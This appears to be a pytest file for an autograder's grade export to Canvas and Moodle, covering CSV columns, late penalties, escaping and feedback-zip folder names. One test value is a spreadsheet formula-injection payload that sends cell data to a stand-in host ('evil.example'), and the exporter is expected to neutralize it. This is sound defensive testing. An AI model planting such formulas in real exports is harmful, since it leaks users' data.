"""Grades back into the LMS: Canvas' gradebook import and Moodle's grading worksheet, from a collected export. Fast."""

from __future__ import annotations

import csv
import json
import zipfile
from datetime import UTC, datetime

from autograder.collect import collect_zip
from autograder.lateness import Lateness
from autograder.lms import LmsName, moodle_folder, write_canvas, write_moodle, write_moodle_feedback
from autograder.results import SubmissionResult
from autograder.results import TestResult as Outcome
from autograder.students import read_roster

NOTEBOOK = json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
HOSTILE = '=HYPERLINK("evil.example?"&A1,"x")'  # no / : a zip entry's name holds no folder


def collected(tmp_path, entries):
    archive = tmp_path / "export.zip"
    with zipfile.ZipFile(archive, "w") as bundle:
        for name in entries:
            bundle.writestr(name, NOTEBOOK)
    course = tmp_path / "course"
    collect_zip(archive, course, "tiny")
    return course, read_roster(course)


def result(sid, points, max_points=6, **lateness):
    return SubmissionResult(sid, "tiny", [Outcome("test_mean", points, max_points, points == max_points, "")],
                            lateness=Lateness(**lateness))


def rows(path):
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel reads the names, both LMSs skip it
    return list(csv.reader(raw.decode("utf-8-sig").splitlines()))


def test_canvas_import_has_canvas_columns_and_each_score_in_its_users_row(tmp_path):
    course, roster = collected(tmp_path, ["alice_1001_5551_Tiny.ipynb", "王小明_1004_5554_Tiny.ipynb",
                                          f"{HOSTILE}_1005_5555_Tiny.ipynb", "carol/Tiny.ipynb"])
    ids = {entry.get("lms_user"): sid for sid, entry in roster.items()}
    results = [result(ids["1001"], 6), result(ids["1004"], 2, submitted_at="2024-03-02T09:00:00+00:00",
                                                                penalty=1.5), result(ids[None], 4)]
    path, left_out = write_canvas(tmp_path / "canvas.csv", results, roster, {"tiny": "4711"})
    table = rows(path)
    assert table[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "tiny (4711)"]
    assert table[1] == ["    Points Possible", "", "", "", "", "6"]
    by_id = {row[1]: row for row in table[2:]}
    assert by_id == {"1001": ["alice", "1001", "", "", "", "6"], "1004": ["王小明", "1004", "", "", "", "0.5"],
                     "1005": ["'" + HOSTILE, "1005", "", "", "", ""]}  # no result yet: left empty
    assert left_out == ["carol"]  # collected from a folder: Canvas does not know them
    path, _ = write_canvas(tmp_path / "new.csv", results, roster, {})
    assert rows(path)[0][-1] == "tiny"  # no Canvas id: Canvas creates the assignment


def test_moodle_worksheet_has_moodles_columns_and_participant_identifiers(tmp_path):
    course, roster = collected(tmp_path, ["Ana Lúcia_3001_assignsubmission_file_/Tiny.ipynb",
                                          "Bo Chen_3002_assignsubmission_file_/Tiny.ipynb",
                                          "Cy_3003_assignsubmission_file_/Tiny.ipynb",
                                          "dora_1001_5551_Tiny.ipynb"])
    ids = {entry["name"]: sid for sid, entry in roster.items()}
    failed = result(ids["Bo Chen"], 0)
    failed.reason = "<b>the kernel died</b>"
    results = [result(ids["Ana Lúcia"], 5, submitted_at="2024-03-01T14:05:00+00:00", penalty=1,
                      why="1 day(s) late at 10% of the maximum a day"), failed]
    now = datetime(2024, 3, 10, 0, 30, tzinfo=UTC)
    path, left_out = write_moodle(tmp_path / "moodle.csv", results, roster, now)
    table = rows(path)
    assert table[0] == ["Identifier", "Full name", "Email address", "Status", "Grade", "Maximum Grade",
                        "Grade can be changed", "Last modified (submission)", "Last modified (grade)",
                        "Feedback comments"]
    assert table[1] == ["Participant 3001", "Ana Lúcia", "", "Submitted for grading", "4.00", "6.00", "Yes",
                        "Friday, 1 March 2024, 2:05 PM", "Sunday, 10 March 2024, 12:30 AM",
                        "Late: 1 day(s) late at 10% of the maximum a day"]
    assert table[2][:5] == ["Participant 3002", "Bo Chen", "", "Submitted for grading", "0.00"]
    assert table[2][-1] == "&lt;b&gt;the kernel died&lt;/b&gt;"  # Moodle reads comments as HTML
    assert table[3][:4] == ["Participant 3003", "Cy", "", "No submission"]
    assert left_out == ["dora"]  # a Canvas user is not a Moodle participant


def test_moodle_feedback_zip_puts_each_page_in_the_folder_moodles_import_reads(tmp_path):
    course, roster = collected(tmp_path, ["Ana Lúcia_3001_assignsubmission_file_/Tiny.ipynb",
                                          "Bo Chen_3002_assignsubmission_file_/Tiny.ipynb",
                                          "dora_1001_5551_Tiny.ipynb"])
    roster["jo"] = {"name": "Jo_Ann/Smith", "lms_user": "3004", "lms": "moodle"}  # Moodle splits folders at "_"
    pages = {}
    for sid in roster:
        pages[sid] = tmp_path / "feedback" / sid / "Tiny.html"
        pages[sid].parent.mkdir(parents=True)
        pages[sid].write_text(f"<p>feedback for {sid}</p>")
    path, left_out = write_moodle_feedback(tmp_path / "feedback.zip", pages, roster)
    assert left_out == ["dora"]  # a Canvas user is not a Moodle participant
    with zipfile.ZipFile(path) as bundle:
        entries = {info.filename: bundle.read(info) for info in bundle.infolist()}
    assert sorted(entries) == ["Ana Lúcia_3001_assignsubmission_file_/Tiny.html",
                               "Bo Chen_3002_assignsubmission_file_/Tiny.html",
                               "Jo Ann Smith_3004_assignsubmission_file_/Tiny.html"]
    by_participant = {entry["lms_user"]: sid for sid, entry in roster.items()}
    for entry, data in entries.items():
        folder, file = entry.split("/")
        # Moodle's import: a path part split at "_" into at most 5 gives name, participant id, plugin type and name.
        name, participant, plugin_type, plugin, rest = folder.split("_", 4)
        assert (plugin_type, plugin, rest, file) == ("assignsubmission", "file", "", "Tiny.html")
        assert data == pages[by_participant[participant]].read_bytes()
        assert moodle_folder(folder) == LmsName(name, participant, "moodle")  # and our collect reads it back
